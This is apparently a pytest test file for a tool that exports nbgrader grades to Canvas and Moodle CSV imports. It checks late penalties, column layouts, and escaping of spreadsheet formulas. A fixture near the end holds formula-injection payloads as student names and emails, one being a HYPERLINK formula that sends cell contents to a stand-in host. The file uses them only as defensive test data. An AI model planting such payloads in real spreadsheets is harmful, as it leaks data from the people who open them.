"""Canvas and Moodle grade exports from a real nbgrader gradebook (course.assessment.lms).

The class: quiz01 (3 points, due 1 Oct 12:00 UTC) and quiz02 (5 points, due 15 Oct 12:00 UTC)
have submissions, quiz03 (4 points) has none, so it is not released. With 10 % per started day
late, capped at 25 %:

- bo, quiz01: 2 of 3, 25 h late = 2 days, 20 % of 3 = 0.60 deducted -> 1.40;
- ada, quiz02: 3 of 5, 48 h + 1 s late = 3 days, 30 % capped at 25 % of 5 = 1.25 -> 1.75;
- cy, quiz02: 4 of 5, 1 s late = 1 day, 10 % of 5 = 0.50 -> 3.50; cy never submitted quiz01 (0).

Totals: ada 3 + 1.75 = 4.75, bo 1.40 + 3 = 4.40, cy 0 + 3.50 = 3.50 (of 8).
"""

import csv
import shutil

import pytest
from nbgrader.api import Gradebook

from course.assessment.lms import (
    CANVAS_TOTAL,
    LatePolicy,
    canvas_rows,
    class_grades,
    days_late,
    inert,
    main,
    moodle_rows,
    note_rows,
    released_assignments,
)

from .conftest import ROOT
from .gradebooks import COURSE_ID, build_gradebook

SAMPLES = ROOT / "tests" / "fixtures" / "lms"
POLICY = LatePolicy(percent_per_day=10, cap_percent=25)
ITEMS = {"quiz01": {"a": 1, "b": 2}, "quiz02": {"c": 5}, "quiz03": {"d": 4}}
STUDENTS = {
    "ada": {"first_name": "Ada", "last_name": "Lovelace", "email": "ada@example.org",
            "lms_user_id": "101"},
    "bo": {"first_name": "Bo", "last_name": "Chen", "email": "bo@example.org"},
    "cy": {"first_name": "Cy", "last_name": "Diaz", "email": "cy@example.org"},
}  # fmt: skip
GRADES = {
    ("quiz01", "ada"): {"a": 1, "b": 2},
    ("quiz01", "bo"): {"a": 0, "b": 2},
    ("quiz02", "ada"): {"c": 3},
    ("quiz02", "bo"): {"c": 3},
    ("quiz02", "cy"): {"c": 4},
}
DUE = {"quiz01": "2026-10-01 12:00:00", "quiz02": "2026-10-15 12:00:00"}
STAMPS = {
    ("quiz01", "ada"): "2026-10-01 11:00:00",
    ("quiz01", "bo"): "2026-10-02 13:00:00",
    ("quiz02", "ada"): "2026-10-17 12:00:01",
    ("quiz02", "bo"): "2026-10-15 12:00:00",
    ("quiz02", "cy"): "2026-10-15 12:00:01",
}
TOTALS = {"ada": "4.75", "bo": "4.40", "cy": "3.50"}


pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")  # nbgrader's own


@pytest.fixture(scope="module")
def template(tmp_path_factory):
    """The class's gradebook, built once (a new gradebook costs seconds); tests get copies."""
    path = tmp_path_factory.mktemp("template") / "gradebook.db"
    build_gradebook(path, ITEMS, STUDENTS, GRADES, DUE, STAMPS)
    return path


@pytest.fixture
def gradebook(template, tmp_path):
    shutil.copy(template, tmp_path / "gradebook.db")
    with Gradebook(f"sqlite:///{tmp_path / 'gradebook.db'}", course_id=COURSE_ID) as gb:
        yield gb


@pytest.fixture
def grades(gradebook):
    return class_grades(gradebook, released_assignments(gradebook), POLICY)


def read_csv(path):
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def sample(name):
    return read_csv(SAMPLES / name)


def test_unreleased_assignments_are_left_out(gradebook, tmp_path):
    assert released_assignments(gradebook) == ["quiz01", "quiz02"]
    outbound = tmp_path / "exchange" / COURSE_ID / "outbound"
    (outbound / "quiz03").mkdir(parents=True)
    assert released_assignments(gradebook, outbound) == ["quiz01", "quiz02", "quiz03"]
    assert released_assignments(gradebook, chosen=["quiz02"]) == ["quiz02"]
    with pytest.raises(ValueError, match=r"assignments must be among .*'quiz9'"):
        released_assignments(gradebook, chosen=["quiz9"])


def test_canvas_header_has_the_sample_layout(grades):
    ours, theirs = canvas_rows(grades), sample("canvas_gradebook_import.csv")
    identity = theirs[0].index("Assignment 1")
    assert ours[0][:identity] == theirs[0][:identity]
    assert ours[0][identity:-1] == ["quiz01", "quiz02"]
    assert ours[0][-1] == CANVAS_TOTAL and theirs[0][-1].endswith("(read only)")
    assert ours[1][0] == theirs[1][0] == "Points Possible"
    assert ours[1][identity:] == ["3.00", "5.00", "8.00"]
    assert len(ours) == 2 + len(STUDENTS)


def test_moodle_header_has_the_sample_layout(grades):
    ours, theirs = moodle_rows(grades), sample("moodle_grade_import.csv")
    identity = theirs[0].index("Email address") + 1
    assert ours[0][:identity] == theirs[0][:identity]
    assert ours[0][-1] == theirs[0][-1] == "Course total"
    for header in (ours[0], theirs[0]):
        for i, column in enumerate(header):
            if column.startswith("Feedback: "):  # follows the grade column of its item
                item = column.removeprefix("Feedback: ")
                assert header[i - 1] in (item, f"Assignment: {item}"), header
    assert ours[0][identity:-1] == ["quiz01", "Feedback: quiz01", "quiz02", "Feedback: quiz02"]
    assert len(ours) == 1 + len(STUDENTS)


def test_scores_totals_and_late_penalty(grades):
    canvas = {row[1]: row for row in canvas_rows(grades)[2:]}
    assert canvas["101"][:2] == ["Lovelace, Ada", "101"]  # the LMS id when the gradebook has one
    assert canvas["101"][5:] == ["3.00", "1.75", TOTALS["ada"]]
    assert canvas["bo"][5:] == ["1.40", "3.00", TOTALS["bo"]]
    assert canvas["cy"][5:] == ["0.00", "3.50", TOTALS["cy"]]
    moodle = {row[2]: row for row in moodle_rows(grades)[1:]}
    assert moodle["ada"][:6] == ["Ada", "Lovelace", "ada", "", "", "ada@example.org"]
    assert moodle["bo"][6:] == ["1.40", "late: 2 days, 0.60 points deducted", "3.00", "", "4.40"]
    late = "late: 1 day, 0.50 points deducted"
    assert moodle["cy"][6:] == ["0.00", "not submitted", "3.50", late, "3.50"]
    assert moodle["ada"][7] == ""  # on time: no mark


def test_late_work_is_marked_without_a_penalty_by_default(gradebook):
    grades = class_grades(gradebook, ["quiz01", "quiz02"])
    notes = note_rows(grades)[1:]
    assert sorted((r[0], r[1], r[2], r[3]) for r in notes) == [
        ("ada", "quiz02", "late: 3 days", "3"),
        ("bo", "quiz01", "late: 2 days", "2"),
        ("cy", "quiz01", "not submitted", "0"),
        ("cy", "quiz02", "late: 1 day", "1"),
    ]
    assert [r[5] for r in canvas_rows(grades)[2:] if r[1] == "bo"] == ["2.00"]


@pytest.mark.parametrize(
    ("seconds", "days"), [(0, 0), (1, 1), (86_400, 1), (86_401, 2), (3 * 86_400, 3)]
)
def test_days_late_counts_started_days(seconds, days):
    assert days_late(seconds) == days


@pytest.mark.parametrize(
    ("kwargs", "field"),
    [({"percent_per_day": -1}, "percent_per_day"), ({"cap_percent": 150}, "cap_percent")],
)
def test_bad_late_policy_names_the_field(kwargs, field):
    with pytest.raises(ValueError, match=rf"{field} must be a number from 0 to 100"):
        LatePolicy(**kwargs)


def test_canvas_assignment_ids_name_existing_columns(grades):
    assert canvas_rows(grades, {"quiz02": "4711"})[0][5:7] == ["quiz01", "quiz02 (4711)"]
    with pytest.raises(ValueError, match="canvas_ids must name assignments"):
        canvas_rows(grades, {"quiz03": "1"})


def test_command_writes_the_file_and_the_notes(template, tmp_path, capsys):
    course = tmp_path / "course"
    course.mkdir()
    shutil.copy(template, course / "gradebook.db")
    (course / "nbgrader_config.py").write_text(
        "c = get_config()\n"
        f"c.CourseDirectory.course_id = {COURSE_ID!r}\n"
        f"c.Exchange.root = {str(tmp_path / 'exchange')!r}\n"
    )
    out = tmp_path / "moodle.csv"
    args = ["moodle", "--out", str(out), "--course", str(course)]
    assert main([*args, "--late-penalty", "10", "--late-cap", "25"]) == 0
    rows = read_csv(out)
    assert {r[2]: r[-1] for r in rows[1:]} == TOTALS
    assert len(read_csv(tmp_path / "moodle_notes.csv")) == 1 + 4
    assert "2 released assignments (quiz01, quiz02)" in capsys.readouterr().out
    with pytest.raises(SystemExit):
        main([*args, "--late-penalty", "150"])
    assert "percent_per_day must be a number from 0 to 100" in capsys.readouterr().err


def test_command_refuses_a_folder_without_a_gradebook(tmp_path, capsys):
    args = ["canvas", "--out", str(tmp_path / "out.csv"), "--course", str(tmp_path)]
    with pytest.raises(SystemExit):
        main(args)
    assert "has no nbgrader_config.py" in capsys.readouterr().err
    (tmp_path / "nbgrader_config.py").write_text("c = get_config()\n")
    with pytest.raises(SystemExit):
        main(args)
    assert "no gradebook at sqlite:///" in capsys.readouterr().err
    assert not (tmp_path / "gradebook.db").exists()  # nbgrader would have made an empty one


HOSTILE = {
    "ada": {"first_name": "Ada", "last_name": "Lovelace", "email": "ada@example.org"},
    "eve": {"first_name": '=HYPERLINK("http://x.example/?"&C3,"Eve")', "email": "@SUM(1+1)",
            "last_name": 'Doe, "Jr."\nIII'},
    "+mal": {"first_name": "-2+3", "last_name": "\tTab", "email": "\r=1"},
}  # fmt: skip
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\0")


@pytest.mark.parametrize("layout", ["canvas", "moodle"])
def test_names_can_neither_break_the_file_nor_run_as_formulas(layout, tmp_path):
    """Names, ids and emails are the students' own text (LMS profiles, roster imports): a comma,
    quote or line break stays inside its cell, and text a spreadsheet would read as a formula
    (OWASP ASVS 1.2.10) starts with an apostrophe; a score stays a number."""
    course = tmp_path / "course"
    course.mkdir()
    grades = {("quiz01", s): {"a": 1} for s in HOSTILE}
    build_gradebook(course / "gradebook.db", {"quiz01": {"a": 1}}, HOSTILE, grades)
    (course / "nbgrader_config.py").write_text(
        f"c = get_config()\nc.CourseDirectory.course_id = {COURSE_ID!r}\n"
    )
    out = tmp_path / "out.csv"
    assert main([layout, "--out", str(out), "--course", str(course)]) == 0
    rows = read_csv(out)
    rows = [r for r in rows if r[0] != "Points Possible"]
    assert len(rows) == 1 + len(HOSTILE) and len({len(r) for r in rows}) == 1
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    eve = HOSTILE["eve"]
    if layout == "moodle":
        by_id = {r[2]: r for r in rows[1:]}
        assert by_id["eve"][:2] == ["'" + eve["first_name"], eve["last_name"]]
        assert by_id["'+mal"][:6] == ["'-2+3", "'\tTab", "'+mal", "", "", "'\r=1"]
    else:
        by_id = {r[1]: r for r in rows[1:]}
        assert by_id["eve"][0] == f"{eve['last_name']}, {eve['first_name']}"
        assert by_id["'+mal"][0] == "'\tTab, -2+3"
    assert [r[-1] for r in rows[1:]] == ["1.00"] * len(HOSTILE)


def test_numbers_stay_numbers_and_every_formula_start_is_neutralised():
    assert [inert(c) for c in ("-1.50", "+2", "0.00", "Ada")] == ["-1.50", "+2", "0.00", "Ada"]
    starts = ["=1", "+a", "-a", "@a", "\ta", "\ra", "\0a"]
    assert [inert(c) for c in starts] == ["'" + c for c in starts]
